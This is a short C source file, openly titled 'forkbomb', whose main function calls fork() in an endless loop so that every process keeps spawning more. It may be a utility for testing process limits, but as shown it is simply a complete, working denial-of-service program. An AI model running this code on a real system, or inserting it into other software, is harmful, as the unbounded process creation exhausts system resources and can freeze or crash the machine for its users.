/*
 * forkbomb - as many processes as it may have, all of which try for more and do not give up.
 */
/* SPDX-License-Identifier: Apache-2.0 */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
